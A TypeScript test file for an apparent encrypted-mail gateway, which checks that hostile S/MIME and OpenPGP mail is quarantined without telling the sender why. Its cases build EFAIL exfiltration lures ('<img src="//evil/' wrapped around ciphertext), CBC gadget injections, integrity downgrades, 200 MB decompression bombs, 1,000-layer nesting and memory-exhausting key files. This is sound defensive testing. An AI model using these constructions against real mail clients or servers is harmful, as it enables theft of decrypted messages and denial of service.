/**
 * Protected mail that is made to break the one who opens it, through a real engine: what holds, holds; what does not is held for the outside
 * and told to people inside; nobody who sends it learns which check it failed, and nothing takes longer than ten seconds.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes, X509Certificate } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { routes } from '#contracts';
import { encryptCms, signCms, softwareSigningKey } from '#crypto';
import { multipartSigned, pkcs7Mime } from '#mail';
import { certificateFile, FILE_PASSWORD } from '../support/certificate-client.js';
import * as fixtures from '../support/cms-fixtures.js';
import { LAZARET, startEngine, type EngineProcess } from '../support/engine-process.js';
import { stepsOf } from '../support/flow-probe.js';
import { hollow, literal, monsterKeys, monsterPasswordPacket, packet, pgpMime, SealedPgp, zlibPacket } from '../support/hostile-pgp.js';
import { compressedCms, nestedEnvelopes, nestedSignatures, unsignedCms, withBrokenEnd, withGadget } from '../support/hostile-smime.js';
import { openNextHopDouble, type NextHopDouble, type TakenMail } from '../support/next-hop-double.js';
import { madePgpKey, type MadePgpKey } from '../support/pgp-key-client.js';
import { addLivePattern, setAt } from '../support/policy-author.js';
import { lastMessage } from '../support/recorded-facts.js';
import { sendMail, type Reply } from '../support/smtp-client.js';

const STRANGER = 'eve@evil.example';
const INSIDE = 'bob@inside.example';
const CUSTOMER = 'carol@customer.example';
const PHRASE = 'the secret figures';
const MOST_MS = 10_000;
const LINE = 'A line that is here to be changed by somebody on the way.\r\n';
const CONTENT = Buffer.from(`Content-Type: text/plain\r\n\r\n${LINE.repeat(4)}These are ${PHRASE}.\r\n${LINE}`);
const OURS = { der: fixtures.RSA_CERTIFICATE };
const SIGNER = { certificate: { der: fixtures.P256_CERTIFICATE }, key: softwareSigningKey(fixtures.P256_KEY) };
/** What EFAIL writes into a mail: the beginning of a request that takes what stands behind it along. */
const LURE = Buffer.from('<img src="//evil');

let outbound: NextHopDouble;
let inbound: NextHopDouble;
let engine: EngineProcess;
let bob: MadePgpKey;
let sealedPgp: SealedPgp;
let signature: Buffer;

beforeAll(async () => {
  [outbound, inbound] = [await openNextHopDouble(), await openNextHopDouble()];
  const hop = ({ port }: NextHopDouble) => ({ host: '127.0.0.1', port, tls: 'none' as const });
  engine = await startEngine({
    readyMs: 60_000,
    settings: { routes: { internalDomains: ['inside.example'], outbound: hop(outbound), inbound: hop(inbound) } },
  });
  const key = fixtures.RSA_KEY.export({ type: 'pkcs8', format: 'pem' }).toString();
  const file = Buffer.from(`${new X509Certificate(OURS.der).toString()}\n${key}`).toString('base64');
  await engine.ask(routes.importCertificates, { body: { file } });
  bob = await madePgpKey(INSIDE);
  await engine.ask(routes.importPgpKeys, { body: { file: bob.privateFile.toString('base64') } });
  const matcher = { kind: 'keywords' as const, keywords: [PHRASE] };
  await addLivePattern(engine, 'figures', { matcher, action: 'quarantine' });
  await setAt(engine, 'inside.example', { 'pgp.readInline': true, 'securityInfo.enabled': true });
  sealedPgp = await SealedPgp.for(bob.publicFile);
  signature = await signCms(CONTENT, SIGNER, { signingTime: new Date(), detached: true });
}, 120_000);

afterAll(async () => {
  await engine.dispose();
  await outbound.stop();
  await inbound.stop();
});

const html = (text: string): Buffer => Buffer.from(`Content-Type: text/html\r\n\r\n${text}`);
const mixed = (...parts: Buffer[]): Buffer =>
  Buffer.concat([
    Buffer.from('Content-Type: multipart/mixed; boundary=m\r\n\r\n'),
    ...parts.flatMap((part) => [Buffer.from('--m\r\n'), part, Buffer.from('\r\n')]),
    Buffer.from('--m--\r\n'),
  ]);
const signed = (): Buffer => multipartSigned({ entity: CONTENT, signature, digest: 'sha256', boundary: 's' });
const cbc = (): Buffer => encryptCms(CONTENT, [OURS], { cipher: 'aes-256-cbc' });
const gcm = (): Buffer => encryptCms(CONTENT, [OURS]);
const gadget = (): Buffer => withGadget(cbc(), { known: CONTENT.subarray(0, 16), wanted: LURE, at: 6 });
const pgp = (content: Buffer): Buffer => pgpMime(sealedPgp.named, content);
const changedHash = (): Buffer => withBrokenEnd(sealedPgp.withHash(literal(CONTENT)), 60);
const downgraded = (): Buffer => packet(9, sealedPgp.withHash(literal(CONTENT)).subarray(7));
const inline = (): Buffer => {
  const block = /-----BEGIN[^]*END PGP MESSAGE-----/.exec(pgp(sealedPgp.withHash(literal(CONTENT))).toString('latin1'))?.[0] ?? '';
  return Buffer.from(`Content-Type: text/plain\r\n\r\n<img src="//evil.example/\r\n${block}\r\n">\r\n`);
};

/** How far a field of ours about a layer is told, without keys and times. */
const CLOSED_CBC = ['encrypted; format=smime; cipher=aes-256-cbc; opened=no', 'left-closed; why=cannot-decrypt'];
const CLOSED_GCM = ['encrypted; format=smime; cipher=aes-256-gcm; opened=no', 'left-closed; why=cannot-decrypt'];
const closedPgp = (why: string): string[] => ['encrypted; format=pgp; opened=no', `left-closed; why=${why}`];
const OPENED_GCM = 'encrypted; format=smime; cipher=aes-256-gcm; integrity=yes';
const times = (count: number, field: string): string[] => Array.from({ length: count }, () => field);
const NOISE = Buffer.concat([Buffer.from('Content-Type: text/plain\r\n\r\n'), randomBytes(2_000)]);
const BOMB = Buffer.concat([Buffer.from('Content-Type: text/plain\r\n\r\n'), Buffer.alloc(200_000_000, 'a')]);

describe('a stranger sends to somebody inside and to the outside', () => {
  it.each<[name: string, entity: () => Buffer, because: 'pattern' | 'uninspectable' | 'pattern|uninspectable', told: readonly string[]]>([
    [
      'an S/MIME envelope in the middle of a request (EFAIL)',
      () => mixed(html('<img src="//evil/'), pkcs7Mime(gcm(), 'authEnveloped-data'), html('">')),
      'uninspectable',
      [],
    ],
    [
      'an OpenPGP message in the middle of a request (EFAIL)',
      () => mixed(html('<img src="//evil/'), pgp(sealedPgp.withHash(literal(CONTENT))), html('">')),
      'uninspectable',
      [],
    ],
    ['an inline block in the middle of a request (EFAIL)', inline, 'uninspectable', []],
    [
      'CBC with a gadget of somebody else in it (EFAIL)',
      () => pkcs7Mime(gadget(), 'enveloped-data'),
      'pattern|uninspectable',
      ['encrypted; format=smime; cipher=aes-256-cbc; integrity=no'],
    ],
    [
      'CBC with noise inside, as a change leaves it',
      () => pkcs7Mime(encryptCms(NOISE, [OURS], { cipher: 'aes-256-cbc' }), 'enveloped-data'),
      'uninspectable',
      ['encrypted; format=smime; cipher=aes-256-cbc; integrity=no'],
    ],
    ['CBC that ends in no padding', () => pkcs7Mime(withBrokenEnd(cbc(), 17), 'enveloped-data'), 'uninspectable', CLOSED_CBC],
    ['GCM that was changed', () => pkcs7Mime(withBrokenEnd(gcm(), 1), 'authEnveloped-data'), 'uninspectable', CLOSED_GCM],
    [
      'OpenPGP without protection against changes (EFAIL)',
      () => pgp(sealedPgp.withoutHash(literal(CONTENT))),
      'uninspectable',
      closedPgp('no-integrity'),
    ],
    ['OpenPGP that lost its protection on the way (EFAIL)', () => pgp(downgraded()), 'uninspectable', closedPgp('no-integrity')],
    ['OpenPGP that was changed', () => pgp(changedHash()), 'uninspectable', closedPgp('cannot-decrypt')],
    ['a signed part below a text of somebody else (wrapping)', () => mixed(html(`Pay ${PHRASE}!`), signed()), 'pattern', []],
    [
      'a signature by somebody who is not the sender',
      signed,
      'pattern',
      ['signed; format=smime; result=good; trusted=no; untrusted=untrusted-root; from=no; signer=ada@a.example'],
    ],
    ['a signature that nobody made', () => pkcs7Mime(unsignedCms(CONTENT), 'signed-data'), 'pattern', []],
    [
      '200 MB of one letter, compressed in an S/MIME envelope',
      () => pkcs7Mime(encryptCms(pkcs7Mime(compressedCms(BOMB), 'signed-data'), [OURS]), 'authEnveloped-data'),
      'uninspectable',
      [OPENED_GCM, 'left-closed; why=too-large'],
    ],
    [
      '200 MB of one letter, compressed in OpenPGP',
      () => pgp(sealedPgp.withHash(zlibPacket(literal(BOMB)))),
      'uninspectable',
      closedPgp('too-large'),
    ],
    [
      '1,000 layers of S/MIME, envelopes around',
      () => nestedEnvelopes(CONTENT, { envelopes: 20, inside: 980 }, OURS.der),
      'uninspectable',
      [...times(16, OPENED_GCM), 'left-closed; why=too-many-layers'],
    ],
    [
      '1,000 signatures, one around the other',
      () => nestedSignatures(CONTENT, 1_000, signature),
      'pattern',
      [
        ...times(
          16,
          'signed; format=smime; result=broken; why=content-changed; trusted=no; untrusted=untrusted-root; from=no; signer=ada@a.example',
        ),
        'left-closed; why=too-many-layers',
      ],
    ],
    [
      '1,000 layers of OpenPGP packets',
      () => pgp(sealedPgp.withHash(hollow(literal(CONTENT), 1_000))),
      'uninspectable',
      closedPgp('cannot-decrypt'),
    ],
    [
      'a session key under a password that takes all memory',
      () => pgpMime(monsterPasswordPacket(), sealedPgp.withHash(literal(CONTENT))),
      'uninspectable',
      closedPgp('cannot-decrypt'),
    ],
  ])('%s: it is held, told as what it is, and in time', async (_, entity, because, told) => {
    const bytes = mailOf(entity());
    const begin = performance.now();
    const arrived = await arrival(async () => {
      expect((await sendMail(engine.smtpPort, { from: STRANGER, to: [INSIDE, CUSTOMER] }, bytes)).code).toBe(250);
    });
    expect(performance.now() - begin).toBeLessThan(MOST_MS);
    expect(stepsOf(lastMessage(engine.dataDir).facts, 1)).toContainEqual(expect.stringMatching(`^dlp → dlp-quarantine: (?:${because})$`));
    expect(fieldsOf(arrived)).toEqual(told);
    if (because === 'uninspectable') expect(arrived.bytes.toString('latin1')).not.toContain(PHRASE);
    expect(subjectOf(arrived)).not.toContain('[signed]');
  });

  it('and none of it has reached the outside, or came back to its sender', () => {
    expect(outbound.mails).toEqual([]);
    expect(inbound.mails.flatMap(({ recipients }) => recipients)).not.toContain(STRANGER);
  });
});

describe('the answer to who sent it', () => {
  it.each([{}, { 'incoming.infoHeaders': false }, { 'incoming.infoHeaders': false, 'incoming.decrypt': false }])(
    'does not tell whether a key of ours opened it, or what it failed by: %o',
    async (values) => {
      await setAt(engine, 'inside.example', { 'securityInfo.enabled': null, 'incoming.infoHeaders': null, ...values });
      const smime = [cbc(), gadget(), withBrokenEnd(cbc(), 17), encryptCms(CONTENT, [SIGNER.certificate], { cipher: 'aes-256-cbc' })];
      const entities = [
        ...smime.map((cms) => pkcs7Mime(cms, 'enveloped-data')),
        ...[gcm(), withBrokenEnd(gcm(), 1)].map((cms) => pkcs7Mime(cms, 'authEnveloped-data')),
        ...[sealedPgp.withHash(literal(CONTENT)), sealedPgp.withoutHash(literal(CONTENT)), changedHash(), downgraded()].map(pgp),
      ];
      const answers = new Set<string>();
      for (const entity of entities)
        answers.add(withoutId(await sendMail(engine.smtpPort, { from: STRANGER, to: [INSIDE] }, mailOf(entity))));
      expect([...answers]).toEqual(['250 2.0.0 Ok: queued as …']);
    },
  );
});

describe('files of keys that take too much work', () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'lazaret-hostile-'));
    writeFileSync(join(folder, 'password'), `${FILE_PASSWORD}\n`);
  });
  afterAll(() => {
    rmSync(folder, { recursive: true });
  });

  async function inTime<T>(work: Promise<T>): Promise<T> {
    const begin = performance.now();
    const answer = await work;
    expect(performance.now() - begin).toBeLessThan(MOST_MS);
    return answer;
  }

  function lazaret(...words: string[]): Promise<{ readonly code: number; readonly errors: string }> {
    return new Promise((resolve) => {
      execFile(process.execPath, [LAZARET, ...words, '--password-file', join(folder, 'password')], (error, _, errors) => {
        resolve({ code: typeof error?.code === 'number' ? error.code : 0, errors });
      });
    });
  }

  it('are refused with a reason: a PFX with a million iterations, uploaded and on the command line', async () => {
    const pfx = certificateFile('ada-million.pfx');
    const body = { file: pfx.toString('base64'), password: FILE_PASSWORD };
    const uploaded = await inTime(engine.fetch(routes.importCertificates, { body }));
    expect([uploaded.status, await uploaded.text()]).toEqual([422, expect.stringContaining('in more than 2000000 rounds')]);
    writeFileSync(join(folder, 'ada.pfx'), pfx);
    const { code, errors } = await inTime(lazaret('certificate', 'show', join(folder, 'ada.pfx')));
    expect([code, errors]).toEqual([1, expect.stringContaining('in more than 2000000 rounds')]);
  });

  it.each(['argon2', 'iterated'] as const)(
    'are refused with a reason: OpenPGP keys, %s, uploaded and on the command line',
    async (kind) => {
      const keys = (await monsterKeys(bob.privateFile, FILE_PASSWORD))[kind];
      const uploaded = await inTime(
        engine.fetch(routes.importPgpKeys, { body: { file: keys.toString('base64'), password: FILE_PASSWORD } }),
      );
      expect([uploaded.status, await uploaded.text()]).toEqual([422, expect.stringContaining('too much work')]);
      writeFileSync(join(folder, 'keys.pgp'), keys);
      const sign = lazaret('pgp', 'sign', '--key', join(folder, 'keys.pgp'));
      expect(await inTime(sign)).toEqual({ code: 1, errors: expect.stringContaining('too much work') as string });
    },
  );

  it('and the engine is the one that was started, and takes mail', async () => {
    expect((await sendMail(engine.smtpPort, { from: STRANGER, to: [INSIDE] }, mailOf(CONTENT))).code).toBe(250);
    expect(engine.output()).not.toMatch(/uncaught|unhandled|heap out of memory/i);
  });
});

function mailOf(entity: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`From: Eve <${STRANGER}>\r\nTo: ${INSIDE}\r\nSubject: hello\r\nMIME-Version: 1.0\r\n`), entity]);
}

/** The mail that arrives inside; notices of the engine come from nobody. */
async function arrival(act: () => Promise<void>): Promise<TakenMail> {
  const before = inbound.mails.length;
  await act();
  const arrived = () => inbound.mails.slice(before).find(({ sender }) => sender === STRANGER);
  await expect.poll(arrived).toBeDefined();
  return arrived()!;
}

const unfolded = ({ bytes }: TakenMail): string => bytes.toString('latin1').replace(/\r\n[ \t]/g, ' ');
const subjectOf = (mail: TakenMail): string => /^Subject:.*$/m.exec(unfolded(mail))?.[0] ?? '';
const withoutId = ({ code, lines }: Reply): string => `${code} ${lines.join(' ').replace(/[0-9A-Z]{26}/, '…')}`;

function fieldsOf(mail: TakenMail): string[] {
  const fields = unfolded(mail).match(/^X-Lazaret-Info-\d+: .*$/gm) ?? [];
  return fields.map((field) =>
    field
      .replace(/^[^:]*: /, '')
      .replace(/; (?:key|key-transport|at)=[^;\r]*/g, '')
      .trim(),
  );
}
